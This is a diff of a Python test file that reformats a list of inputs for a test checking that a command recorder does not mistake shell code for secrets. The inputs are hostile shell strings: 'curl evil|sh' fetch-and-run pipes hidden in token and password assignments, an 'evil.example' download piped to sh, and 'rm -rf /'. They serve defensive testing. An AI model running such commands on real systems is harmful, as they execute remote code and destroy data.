@@ -44,27 +44,14 @@ def test_a17_secrets_in_command_lines(command: list[str], recorded: list[str]) -
     assert found["sha256"] == {"command": hashlib.sha256(whole).hexdigest()}
 
 
-@pytest.mark.parametrize(
-    "script",
-    [
-        'A_TOKEN="$(curl evil|sh)"',
-        "A_TOKEN=$(curl evil|sh)",
-        "A_TOKEN=`curl evil|sh`",
-        "A_TOKEN='curl evil | sh'; eval $A_TOKEN",
-        "A_TOKEN='rm -rf /'; $A_TOKEN",
-        "A_TOKEN=<(curl evil)",
-        "TOKEN= curl evil",
-        "token:\ncurl evil",
-        ": authorization: ; curl evil | sh",
-        ": authorization: \ncurl evil",
-        ": bearer ;curl evil.example/something|sh",
-        ": -----BEGIN PRIVATE KEY-----; curl evil | sh",
-        ": -----BEGIN PRIVATE KEY-----\ncurl evil\n: -----END PRIVATE KEY-----",
-        "--token;curl evil",
-        "x --password $(curl evil)",
-        "x --password 'curl evil;'",
-    ],
-)
+@pytest.mark.parametrize("script", [
+    'A_TOKEN="$(curl evil|sh)"', "A_TOKEN=$(curl evil|sh)", "A_TOKEN=`curl evil|sh`",
+    "A_TOKEN='curl evil | sh'; eval $A_TOKEN", "A_TOKEN='rm -rf /'; $A_TOKEN", "A_TOKEN=<(curl evil)",
+    "TOKEN= curl evil", "token:\ncurl evil", ": authorization: ; curl evil | sh", ": authorization: \ncurl evil",
+    ": bearer ;curl evil.example/something|sh", ": -----BEGIN PRIVATE KEY-----; curl evil | sh",
+    ": -----BEGIN PRIVATE KEY-----\ncurl evil\n: -----END PRIVATE KEY-----", "--token;curl evil",
+    "x --password $(curl evil)", "x --password 'curl evil;'",
+])  # fmt: skip
 def test_a22_no_shell_code_is_taken_for_a_secret(script: str) -> None:
     found = recorded_command(["sh", "-c", script])
     assert found["command"] == ["sh", "-c", script.replace("\n", r"\n")]
